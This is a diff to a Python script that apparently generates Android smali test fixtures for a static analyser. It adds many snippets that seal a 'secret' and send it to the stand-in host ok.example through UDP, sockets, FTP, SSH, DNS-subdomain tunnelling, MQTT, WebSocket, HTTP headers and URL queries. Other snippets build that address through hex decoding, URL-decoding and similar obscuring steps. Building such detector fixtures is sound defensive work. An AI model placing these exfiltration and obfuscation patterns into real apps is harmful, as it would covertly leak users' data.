@@ -219,6 +219,11 @@ shapes = {
     "endless_loop": [activity('    :again\n    const-string v0, "https://after.example/"\n    goto :again\n', 6,
                               "\n.method public onResume()V\n    .registers 6\n    const-string v0, \"https://later.example/\"\n" + SEND + "    return-void\n.end method\n")],
     "endless_recursion": [activity("    invoke-virtual {p0, p1}, Lt/Main;->onCreate(Landroid/os/Bundle;)V\n" + '    const-string v0, "https://deep.example/"\n' + SEND)],
+    # Two powers: one by a number that no RSA key has (Montgomery's constant), one by 65537.
+    "powers": [activity("    sget-object v0, Ljava/math/BigInteger;->ZERO:Ljava/math/BigInteger;\n    const/16 v1, 0x800\n"
+                        "    invoke-virtual {v0, v1}, Ljava/math/BigInteger;->setBit(I)Ljava/math/BigInteger;\n    move-result-object v0\n"
+                        + "".join(f"    const-wide/32 v2, {exponent}\n    invoke-static {{v2, v3}}, Ljava/math/BigInteger;->valueOf(J)Ljava/math/BigInteger;\n    move-result-object v2\n"
+                                  "    invoke-virtual {v0, v2, v0}, Ljava/math/BigInteger;->modPow(Ljava/math/BigInteger;Ljava/math/BigInteger;)Ljava/math/BigInteger;\n" for exponent in (2, 65537)), 8)],
     # Library code that nothing calls, with work without end: the app's own code comes first.
     "library_work": [activity("    nop\n", 6, '\n.method public work()V\n    .registers 6\n    const/16 v0, 0x4e20\n    :count\n    add-int/lit8 v0, v0, -0x1\n    if-nez v0, :count\n    const-string v0, "https://own.example/"\n' + SEND + "    return-void\n.end method\n"),
                      ".class public Lorg/jsoup/Work;\n.super Ljava/lang/Object;\n"
@@ -240,10 +245,445 @@ shapes = {
     "pin": [TRUST % PIN],
 }
 
+# How an address may be put together: each leaves "https://ok.example/x" in v0.
+VALUES = {
+    'regexmatch': """    const-string v1, "x=<https://ok.example/x>"
+    const-string v2, "<([^>]+)>"
+    invoke-static {v2}, Ljava/util/regex/Pattern;->compile(Ljava/lang/String;)Ljava/util/regex/Pattern;
+    move-result-object v2
+    invoke-virtual {v2, v1}, Ljava/util/regex/Pattern;->matcher(Ljava/lang/CharSequence;)Ljava/util/regex/Matcher;
+    move-result-object v1
+    invoke-virtual {v1}, Ljava/util/regex/Matcher;->find()Z
+    const/4 v2, 0x1
+    invoke-virtual {v1, v2}, Ljava/util/regex/Matcher;->group(I)Ljava/lang/String;
+    move-result-object v0
+""",
+    'replaceall': """    const-string v1, "https://o#k.ex#ample/x"
+    const-string v2, "#+"
+    const-string v3, ""
+    invoke-virtual {v1, v2, v3}, Ljava/lang/String;->replaceAll(Ljava/lang/String;Ljava/lang/String;)Ljava/lang/String;
+    move-result-object v0
+""",
+    'tokenizer': """    new-instance v1, Ljava/util/StringTokenizer;
+    const-string v2, "a|https://ok.example/x|b"
+    const-string v3, "|"
+    invoke-direct {v1, v2, v3}, Ljava/util/StringTokenizer;-><init>(Ljava/lang/String;Ljava/lang/String;)V
+    invoke-virtual {v1}, Ljava/util/StringTokenizer;->nextToken()Ljava/lang/String;
+    move-result-object v0
+    invoke-virtual {v1}, Ljava/util/StringTokenizer;->nextToken()Ljava/lang/String;
+    move-result-object v0
+""",
+    'optional': """    const-string v1, "https://ok.example/x"
+    invoke-static {v1}, Ljava/util/Optional;->of(Ljava/lang/Object;)Ljava/util/Optional;
+    move-result-object v1
+    invoke-virtual {v1}, Ljava/util/Optional;->get()Ljava/lang/Object;
+    move-result-object v0
+    check-cast v0, Ljava/lang/String;
+""",
+    'pair': """    new-instance v1, Landroid/util/Pair;
+    const-string v2, "a"
+    const-string v3, "https://ok.example/x"
+    invoke-direct {v1, v2, v3}, Landroid/util/Pair;-><init>(Ljava/lang/Object;Ljava/lang/Object;)V
+    iget-object v0, v1, Landroid/util/Pair;->second:Ljava/lang/Object;
+    check-cast v0, Ljava/lang/String;
+""",
+    'entry': """    new-instance v1, Ljava/util/LinkedHashMap;
+    invoke-direct {v1}, Ljava/util/LinkedHashMap;-><init>()V
+    const-string v2, "k"
+    const-string v3, "https://ok.example/x"
+    invoke-virtual {v1, v2, v3}, Ljava/util/LinkedHashMap;->put(Ljava/lang/Object;Ljava/lang/Object;)Ljava/lang/Object;
+    invoke-virtual {v1}, Ljava/util/LinkedHashMap;->entrySet()Ljava/util/Set;
+    move-result-object v1
+    invoke-interface {v1}, Ljava/util/Set;->iterator()Ljava/util/Iterator;
+    move-result-object v1
+    invoke-interface {v1}, Ljava/util/Iterator;->next()Ljava/lang/Object;
+    move-result-object v1
+    check-cast v1, Ljava/util/Map$Entry;
+    invoke-interface {v1}, Ljava/util/Map$Entry;->getValue()Ljava/lang/Object;
+    move-result-object v0
+    check-cast v0, Ljava/lang/String;
+""",
+    'arraysaslist': """    const/4 v3, 0x2
+    new-array v3, v3, [Ljava/lang/Object;
+    const/4 v4, 0x0
+    const-string v2, "zz"
+    aput-object v2, v3, v4
+    const/4 v4, 0x1
+    const-string v2, "https://ok.example/x"
+    aput-object v2, v3, v4
+    invoke-static {v3}, Ljava/util/Arrays;->asList([Ljava/lang/Object;)Ljava/util/List;
+    move-result-object v1
+    invoke-static {v1}, Ljava/util/Collections;->reverse(Ljava/util/List;)V
+    const/4 v4, 0x0
+    invoke-interface {v1, v4}, Ljava/util/List;->get(I)Ljava/lang/Object;
+    move-result-object v0
+    check-cast v0, Ljava/lang/String;
+""",
+    'atomicref': """    new-instance v1, Ljava/util/concurrent/atomic/AtomicReference;
+    const-string v2, "https://ok.example/x"
+    invoke-direct {v1, v2}, Ljava/util/concurrent/atomic/AtomicReference;-><init>(Ljava/lang/Object;)V
+    invoke-virtual {v1}, Ljava/util/concurrent/atomic/AtomicReference;->get()Ljava/lang/Object;
+    move-result-object v0
+    check-cast v0, Ljava/lang/String;
+""",
+    'threadlocal': """    new-instance v1, Ljava/lang/ThreadLocal;
+    invoke-direct {v1}, Ljava/lang/ThreadLocal;-><init>()V
+    const-string v3, "https://ok.example/x"
+    invoke-virtual {v1, v3}, Ljava/lang/ThreadLocal;->set(Ljava/lang/Object;)V
+    invoke-virtual {v1}, Ljava/lang/ThreadLocal;->get()Ljava/lang/Object;
+    move-result-object v0
+    check-cast v0, Ljava/lang/String;
+""",
+    'weakref': """    new-instance v1, Ljava/lang/ref/WeakReference;
+    const-string v3, "https://ok.example/x"
+    invoke-direct {v1, v3}, Ljava/lang/ref/WeakReference;-><init>(Ljava/lang/Object;)V
+    invoke-virtual {v1}, Ljava/lang/ref/WeakReference;->get()Ljava/lang/Object;
+    move-result-object v0
+    check-cast v0, Ljava/lang/String;
+""",
+    'bytebuffer': """    const-string v1, "https://ok.example/x"
+    invoke-virtual {v1}, Ljava/lang/String;->getBytes()[B
+    move-result-object v1
+    invoke-static {v1}, Ljava/nio/ByteBuffer;->wrap([B)Ljava/nio/ByteBuffer;
+    move-result-object v1
+    invoke-virtual {v1}, Ljava/nio/ByteBuffer;->array()[B
+    move-result-object v2
+    new-instance v0, Ljava/lang/String;
+    invoke-direct {v0, v2}, Ljava/lang/String;-><init>([B)V
+""",
+    'messageformat': """    const-string v1, "https://{0}.example/{1}"
+    const/4 v3, 0x2
+    new-array v3, v3, [Ljava/lang/Object;
+    const/4 v4, 0x0
+    const-string v2, "ok"
+    aput-object v2, v3, v4
+    const/4 v4, 0x1
+    const-string v2, "x"
+    aput-object v2, v3, v4
+    invoke-static {v1, v3}, Ljava/text/MessageFormat;->format(Ljava/lang/String;[Ljava/lang/Object;)Ljava/lang/String;
+    move-result-object v0
+""",
+    'urldecode': """    const-string v1, "https%3A%2F%2Fok.example%2Fx"
+    const-string v2, "UTF-8"
+    invoke-static {v1, v2}, Ljava/net/URLDecoder;->decode(Ljava/lang/String;Ljava/lang/String;)Ljava/lang/String;
+    move-result-object v0
+""",
+    'kotlinintr': """    const-string v1, "https://"
+    const-string v2, "ok.example/x"
+    invoke-static {v1, v2}, Lkotlin/jvm/internal/Intrinsics;->stringPlus(Ljava/lang/String;Ljava/lang/Object;)Ljava/lang/String;
+    move-result-object v0
+""",
+    'join': """    const-string v1, "https://ok"
+    const-string v2, "example/x"
+    const/4 v3, 0x2
+    new-array v3, v3, [Ljava/lang/CharSequence;
+    const/4 v4, 0x0
+    aput-object v1, v3, v4
+    const/4 v4, 0x1
+    aput-object v2, v3, v4
+    const-string v1, "."
+    invoke-static {v1, v3}, Ljava/lang/String;->join(Ljava/lang/CharSequence;[Ljava/lang/CharSequence;)Ljava/lang/String;
+    move-result-object v0
+""",
+    'uribuilder': """    new-instance v1, Landroid/net/Uri$Builder;
+    invoke-direct {v1}, Landroid/net/Uri$Builder;-><init>()V
+    const-string v2, "https"
+    invoke-virtual {v1, v2}, Landroid/net/Uri$Builder;->scheme(Ljava/lang/String;)Landroid/net/Uri$Builder;
+    move-result-object v1
+    const-string v2, "ok.example"
+    invoke-virtual {v1, v2}, Landroid/net/Uri$Builder;->authority(Ljava/lang/String;)Landroid/net/Uri$Builder;
+    move-result-object v1
+    const-string v2, "x"
+    invoke-virtual {v1, v2}, Landroid/net/Uri$Builder;->appendPath(Ljava/lang/String;)Landroid/net/Uri$Builder;
+    move-result-object v1
+    invoke-virtual {v1}, Landroid/net/Uri$Builder;->build()Landroid/net/Uri;
+    move-result-object v1
+    invoke-virtual {v1}, Landroid/net/Uri;->toString()Ljava/lang/String;
+    move-result-object v0
+""",
+    'hexparse': """    const-string v1, "68747470733a2f2f6f6b2e6578616d706c652f78"
+    new-instance v2, Ljava/lang/StringBuilder;
+    invoke-direct {v2}, Ljava/lang/StringBuilder;-><init>()V
+    const/4 v3, 0x0
+    :l
+    invoke-virtual {v1}, Ljava/lang/String;->length()I
+    move-result v4
+    if-ge v3, v4, :d
+    add-int/lit8 v4, v3, 0x2
+    invoke-virtual {v1, v3, v4}, Ljava/lang/String;->substring(II)Ljava/lang/String;
+    move-result-object v5
+    const/16 v6, 0x10
+    invoke-static {v5, v6}, Ljava/lang/Integer;->parseInt(Ljava/lang/String;I)I
+    move-result v5
+    int-to-char v5, v5
+    invoke-virtual {v2, v5}, Ljava/lang/StringBuilder;->append(C)Ljava/lang/StringBuilder;
+    move v3, v4
+    goto :l
+    :d
+    invoke-virtual {v2}, Ljava/lang/StringBuilder;->toString()Ljava/lang/String;
+    move-result-object v0
+""",
+    'jsonobj': """    new-instance v1, Lorg/json/JSONObject;
+    const-string v2, "{\\"a\\":{\\"u\\":\\"https://ok.example/x\\"}}"
+    invoke-direct {v1, v2}, Lorg/json/JSONObject;-><init>(Ljava/lang/String;)V
+    const-string v2, "a"
+    invoke-virtual {v1, v2}, Lorg/json/JSONObject;->getJSONObject(Ljava/lang/String;)Lorg/json/JSONObject;
+    move-result-object v1
+    const-string v2, "u"
+    invoke-virtual {v1, v2}, Lorg/json/JSONObject;->optString(Ljava/lang/String;)Ljava/lang/String;
+    move-result-object v0
+""",
+}
+# Ways out of an app: each seals a text and hands it to ok.example.
+SINKS = {
+    'datagram': """    const-string v1, "secret"
+    invoke-virtual {v1}, Ljava/lang/String;->getBytes()[B
+    move-result-object v1
+    invoke-static {v1}, Lt/Main;->seal([B)[B
+    move-result-object v1
+    const-string v2, "ok.example"
+    invoke-static {v2}, Ljava/net/InetAddress;->getByName(Ljava/lang/String;)Ljava/net/InetAddress;
+    move-result-object v2
+    const/16 v3, 0x1f90
+    array-length v4, v1
+    new-instance v5, Ljava/net/DatagramPacket;
+    invoke-direct {v5, v1, v4, v2, v3}, Ljava/net/DatagramPacket;-><init>([BILjava/net/InetAddress;I)V
+    new-instance v6, Ljava/net/DatagramSocket;
+    invoke-direct {v6}, Ljava/net/DatagramSocket;-><init>()V
+    invoke-virtual {v6, v5}, Ljava/net/DatagramSocket;->send(Ljava/net/DatagramPacket;)V
+""",
+    'datagramchannel': """    const-string v1, "secret"
+    invoke-virtual {v1}, Ljava/lang/String;->getBytes()[B
+    move-result-object v1
+    invoke-static {v1}, Lt/Main;->seal([B)[B
+    move-result-object v1
+    new-instance v4, Ljava/net/InetSocketAddress;
+    const-string v2, "ok.example"
+    const/16 v3, 0x1f90
+    invoke-direct {v4, v2, v3}, Ljava/net/InetSocketAddress;-><init>(Ljava/lang/String;I)V
+    invoke-static {}, Ljava/nio/channels/DatagramChannel;->open()Ljava/nio/channels/DatagramChannel;
+    move-result-object v5
+    invoke-static {v1}, Ljava/nio/ByteBuffer;->wrap([B)Ljava/nio/ByteBuffer;
+    move-result-object v6
+    invoke-virtual {v5, v6, v4}, Ljava/nio/channels/DatagramChannel;->send(Ljava/nio/ByteBuffer;Ljava/net/SocketAddress;)I
+""",
+    'socketchannel': """    const-string v1, "secret"
+    invoke-virtual {v1}, Ljava/lang/String;->getBytes()[B
+    move-result-object v1
+    invoke-static {v1}, Lt/Main;->seal([B)[B
+    move-result-object v1
+    new-instance v4, Ljava/net/InetSocketAddress;
+    const-string v2, "ok.example"
+    const/16 v3, 0x1f90
+    invoke-direct {v4, v2, v3}, Ljava/net/InetSocketAddress;-><init>(Ljava/lang/String;I)V
+    invoke-static {v4}, Ljava/nio/channels/SocketChannel;->open(Ljava/net/SocketAddress;)Ljava/nio/channels/SocketChannel;
+    move-result-object v5
+    invoke-static {v1}, Ljava/nio/ByteBuffer;->wrap([B)Ljava/nio/ByteBuffer;
+    move-result-object v6
+    invoke-virtual {v5, v6}, Ljava/nio/channels/SocketChannel;->write(Ljava/nio/ByteBuffer;)I
+""",
+    'asyncchannel': """    const-string v1, "secret"
+    invoke-virtual {v1}, Ljava/lang/String;->getBytes()[B
+    move-result-object v1
+    invoke-static {v1}, Lt/Main;->seal([B)[B
+    move-result-object v1
+    new-instance v4, Ljava/net/InetSocketAddress;
+    const-string v2, "ok.example"
+    const/16 v3, 0x1f90
+    invoke-direct {v4, v2, v3}, Ljava/net/InetSocketAddress;-><init>(Ljava/lang/String;I)V
+    invoke-static {}, Ljava/nio/channels/AsynchronousSocketChannel;->open()Ljava/nio/channels/AsynchronousSocketChannel;
+    move-result-object v5
+    invoke-virtual {v5, v4}, Ljava/nio/channels/AsynchronousSocketChannel;->connect(Ljava/net/SocketAddress;)Ljava/util/concurrent/Future;
+    move-result-object v7
+    invoke-interface {v7}, Ljava/util/concurrent/Future;->get()Ljava/lang/Object;
+    invoke-static {v1}, Ljava/nio/ByteBuffer;->wrap([B)Ljava/nio/ByteBuffer;
+    move-result-object v6
+    invoke-virtual {v5, v6}, Ljava/nio/channels/AsynchronousSocketChannel;->write(Ljava/nio/ByteBuffer;)Ljava/util/concurrent/Future;
+""",
+    'ftp': """    const-string v1, "secret"
+    invoke-virtual {v1}, Ljava/lang/String;->getBytes()[B
+    move-result-object v1
+    invoke-static {v1}, Lt/Main;->seal([B)[B
+    move-result-object v1
+    new-instance v4, Lorg/apache/commons/net/ftp/FTPClient;
+    invoke-direct {v4}, Lorg/apache/commons/net/ftp/FTPClient;-><init>()V
+    const-string v2, "ok.example"
+    const/16 v3, 0x1f90
+    invoke-virtual {v4, v2, v3}, Lorg/apache/commons/net/ftp/FTPClient;->connect(Ljava/lang/String;I)V
+    new-instance v5, Ljava/io/ByteArrayInputStream;
+    invoke-direct {v5, v1}, Ljava/io/ByteArrayInputStream;-><init>([B)V
+    const-string v2, "x"
+    invoke-virtual {v4, v2, v5}, Lorg/apache/commons/net/ftp/FTPClient;->storeFile(Ljava/lang/String;Ljava/io/InputStream;)Z
+""",
+    'jsch': """    const-string v1, "secret"
+    invoke-virtual {v1}, Ljava/lang/String;->getBytes()[B
+    move-result-object v1
+    invoke-static {v1}, Lt/Main;->seal([B)[B
+    move-result-object v1
+    new-instance v4, Lcom/jcraft/jsch/JSch;
+    invoke-direct {v4}, Lcom/jcraft/jsch/JSch;-><init>()V
+    const-string v2, "root"
+    const-string v5, "ok.example"
+    const/16 v3, 0x1f90
+    invoke-virtual {v4, v2, v5, v3}, Lcom/jcraft/jsch/JSch;->getSession(Ljava/lang/String;Ljava/lang/String;I)Lcom/jcraft/jsch/Session;
+    move-result-object v6
+    invoke-virtual {v6, v1}, Lcom/jcraft/jsch/Session;->setPassword([B)V
+""",
+    'dnstunnel': """    const-string v1, "secret"
+    invoke-virtual {v1}, Ljava/lang/String;->getBytes()[B
+    move-result-object v1
+    invoke-static {v1}, Lt/Main;->seal([B)[B
+    move-result-object v1
+    new-instance v4, Ljava/math/BigInteger;
+    const/4 v3, 0x1
+    invoke-direct {v4, v3, v1}, Ljava/math/BigInteger;-><init>(I[B)V
+    const/16 v3, 0x10
+    invoke-virtual {v4, v3}, Ljava/math/BigInteger;->toString(I)Ljava/lang/String;
+    move-result-object v1
+    new-instance v5, Ljava/lang/StringBuilder;
+    invoke-direct {v5}, Ljava/lang/StringBuilder;-><init>()V
+    invoke-virtual {v5, v1}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
+    const-string v2, ".ok.example"
+    invoke-virtual {v5, v2}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
+    invoke-virtual {v5}, Ljava/lang/StringBuilder;->toString()Ljava/lang/String;
+    move-result-object v2
+    invoke-static {v2}, Ljava/net/InetAddress;->getByName(Ljava/lang/String;)Ljava/net/InetAddress;
+""",
+    'paho': """    const-string v1, "secret"
+    invoke-virtual {v1}, Ljava/lang/String;->getBytes()[B
+    move-result-object v1
+    invoke-static {v1}, Lt/Main;->seal([B)[B
+    move-result-object v1
+    new-instance v4, Lorg/eclipse/paho/client/mqttv3/MqttClient;
+    const-string v2, "tcp://ok.example:8080"
+    const-string v3, "id"
+    invoke-direct {v4, v2, v3}, Lorg/eclipse/paho/client/mqttv3/MqttClient;-><init>(Ljava/lang/String;Ljava/lang/String;)V
+    invoke-virtual {v4}, Lorg/eclipse/paho/client/mqttv3/MqttClient;->connect()V
+    new-instance v5, Lorg/eclipse/paho/client/mqttv3/MqttMessage;
+    invoke-direct {v5, v1}, Lorg/eclipse/paho/client/mqttv3/MqttMessage;-><init>([B)V
+    const-string v2, "t"
+    invoke-virtual {v4, v2, v5}, Lorg/eclipse/paho/client/mqttv3/MqttClient;->publish(Ljava/lang/String;Lorg/eclipse/paho/client/mqttv3/MqttMessage;)V
+""",
+    'printwriter': """    const-string v1, "secret"
+    invoke-virtual {v1}, Ljava/lang/String;->getBytes()[B
+    move-result-object v1
+    invoke-static {v1}, Lt/Main;->seal([B)[B
+    move-result-object v1
+    const/4 v3, 0x2
+    invoke-static {v1, v3}, Landroid/util/Base64;->encodeToString([BI)Ljava/lang/String;
+    move-result-object v1
+    new-instance v5, Ljava/net/Socket;
+    const-string v2, "ok.example"
+    const/16 v3, 0x1f90
+    invoke-direct {v5, v2, v3}, Ljava/net/Socket;-><init>(Ljava/lang/String;I)V
+    new-instance v6, Ljava/io/PrintWriter;
+    invoke-virtual {v5}, Ljava/net/Socket;->getOutputStream()Ljava/io/OutputStream;
+    move-result-object v7
+    const/4 v3, 0x1
+    invoke-direct {v6, v7, v3}, Ljava/io/PrintWriter;-><init>(Ljava/io/OutputStream;Z)V
+    invoke-virtual {v6, v1}, Ljava/io/PrintWriter;->println(Ljava/lang/String;)V
+""",
+    'objectstream': """    const-string v1, "secret"
+    invoke-virtual {v1}, Ljava/lang/String;->getBytes()[B
+    move-result-object v1
+    invoke-static {v1}, Lt/Main;->seal([B)[B
+    move-result-object v1
+    new-instance v5, Ljava/net/Socket;
+    const-string v2, "ok.example"
+    const/16 v3, 0x1f90
+    invoke-direct {v5, v2, v3}, Ljava/net/Socket;-><init>(Ljava/lang/String;I)V
+    invoke-virtual {v5}, Ljava/net/Socket;->getOutputStream()Ljava/io/OutputStream;
+    move-result-object v7
+    new-instance v6, Ljava/io/ObjectOutputStream;
+    invoke-direct {v6, v7}, Ljava/io/ObjectOutputStream;-><init>(Ljava/io/OutputStream;)V
+    invoke-virtual {v6, v1}, Ljava/io/ObjectOutputStream;->writeObject(Ljava/lang/Object;)V
+""",
+    'okws': """    const-string v1, "secret"
+    invoke-virtual {v1}, Ljava/lang/String;->getBytes()[B
+    move-result-object v1
+    invoke-static {v1}, Lt/Main;->seal([B)[B
+    move-result-object v1
+    new-instance v5, Lokhttp3/Request$Builder;
+    invoke-direct {v5}, Lokhttp3/Request$Builder;-><init>()V
+    const-string v2, "ws://ok.example:8080/p"
+    invoke-virtual {v5, v2}, Lokhttp3/Request$Builder;->url(Ljava/lang/String;)Lokhttp3/Request$Builder;
+    move-result-object v5
+    invoke-virtual {v5}, Lokhttp3/Request$Builder;->build()Lokhttp3/Request;
+    move-result-object v5
+    new-instance v6, Lokhttp3/OkHttpClient;
+    invoke-direct {v6}, Lokhttp3/OkHttpClient;-><init>()V
+    const/4 v7, 0x0
+    invoke-virtual {v6, v5, v7}, Lokhttp3/OkHttpClient;->newWebSocket(Lokhttp3/Request;Lokhttp3/WebSocketListener;)Lokhttp3/WebSocket;
+    move-result-object v7
+    invoke-static {v1}, Lokio/ByteString;->of([B)Lokio/ByteString;
+    move-result-object v8
+    invoke-interface {v7, v8}, Lokhttp3/WebSocket;->send(Lokio/ByteString;)Z
+""",
+    'sslsocket': """    const-string v1, "secret"
+    invoke-virtual {v1}, Ljava/lang/String;->getBytes()[B
+    move-result-object v1
+    invoke-static {v1}, Lt/Main;->seal([B)[B
+    move-result-object v1
+    invoke-static {}, Ljavax/net/ssl/SSLSocketFactory;->getDefault()Ljavax/net/SocketFactory;
+    move-result-object v4
+    const-string v2, "ok.example"
+    const/16 v3, 0x1f90
+    invoke-virtual {v4, v2, v3}, Ljavax/net/SocketFactory;->createSocket(Ljava/lang/String;I)Ljava/net/Socket;
+    move-result-object v5
+    invoke-virtual {v5}, Ljava/net/Socket;->getOutputStream()Ljava/io/OutputStream;
+    move-result-object v6
+    invoke-virtual {v6, v1}, Ljava/io/OutputStream;->write([B)V
+""",
+    'header': """    const-string v1, "secret"
+    invoke-virtual {v1}, Ljava/lang/String;->getBytes()[B
+    move-result-object v1
+    invoke-static {v1}, Lt/Main;->seal([B)[B
+    move-result-object v1
+    const/4 v3, 0x2
+    invoke-static {v1, v3}, Landroid/util/Base64;->encodeToString([BI)Ljava/lang/String;
+    move-result-object v1
+    new-instance v4, Ljava/net/URL;
+    const-string v2, "http://ok.example:8080/p"
+    invoke-direct {v4, v2}, Ljava/net/URL;-><init>(Ljava/lang/String;)V
+    invoke-virtual {v4}, Ljava/net/URL;->openConnection()Ljava/net/URLConnection;
+    move-result-object v5
+    check-cast v5, Ljava/net/HttpURLConnection;
+    const-string v2, "X-D"
+    invoke-virtual {v5, v2, v1}, Ljava/net/HttpURLConnection;->setRequestProperty(Ljava/lang/String;Ljava/lang/String;)V
+    invoke-virtual {v5}, Ljava/net/HttpURLConnection;->getResponseCode()I
+""",
+    'urlquery': """    const-string v1, "secret"
+    invoke-virtual {v1}, Ljava/lang/String;->getBytes()[B
+    move-result-object v1
+    invoke-static {v1}, Lt/Main;->seal([B)[B
+    move-result-object v1
+    const/4 v3, 0x2
+    invoke-static {v1, v3}, Landroid/util/Base64;->encodeToString([BI)Ljava/lang/String;
+    move-result-object v1
+    const-string v2, "UTF-8"
+    invoke-static {v1, v2}, Ljava/net/URLEncoder;->encode(Ljava/lang/String;Ljava/lang/String;)Ljava/lang/String;
+    move-result-object v1
+    new-instance v5, Ljava/lang/StringBuilder;
+    const-string v2, "http://ok.example:8080/p?d="
+    invoke-direct {v5, v2}, Ljava/lang/StringBuilder;-><init>(Ljava/lang/String;)V
+    invoke-virtual {v5, v1}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
+    invoke-virtual {v5}, Ljava/lang/StringBuilder;->toString()Ljava/lang/String;
+    move-result-object v2
+    new-instance v4, Ljava/net/URL;
+    invoke-direct {v4, v2}, Ljava/net/URL;-><init>(Ljava/lang/String;)V
+    invoke-virtual {v4}, Ljava/net/URL;->openStream()Ljava/io/InputStream;
+""",
+}
+
+shapes |= {"sinks/" + name: [activity(body, 12)] for name, body in SINKS.items()}
+(here / "sinks").mkdir(exist_ok=True)
+shapes |= {"values/" + name: [activity(body + SEND, 12)] for name, body in VALUES.items()}
+(here / "values").mkdir(exist_ok=True)
+
 with tempfile.TemporaryDirectory() as folder:
     for name, sources in shapes.items():
         root = pathlib.Path(folder) / name
-        root.mkdir()
+        root.mkdir(parents=True)
         for number, source in enumerate(sources):
             (root / f"{number}.smali").write_text(source)
         subprocess.run(["smali", "assemble", "-o", str(here / f"{name}.dex"), str(root)], check=True)
